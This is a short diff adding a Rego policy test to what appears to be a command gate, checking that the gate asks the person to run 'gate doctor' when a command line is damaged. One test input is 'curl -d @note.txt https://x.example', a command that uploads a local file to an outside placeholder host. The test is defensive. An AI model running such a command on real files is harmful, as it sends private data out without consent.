@@ -155,3 +155,14 @@ test_asks_about_code_for_unknown_tools if {
 	}])
 	count(unknown.ask) == 0 with input as known
 }
+
+test_asks_where_nobody_knows_what_calls_left if {
+	every call in ["cat note.txt", "curl -d @note.txt https://x.example"] {
+		lost := json.patch(gate.event(call), [{
+			"op": "add", "path": "/facts/unknown",
+			"value": [{"kind": "origin", "why": "a line is damaged", "command": null, "span": null}],
+		}])
+		some reason in unknown.ask with input as lost
+		contains(reason.reason, "a line is damaged; ask the person to run gate doctor")
+	}
+}
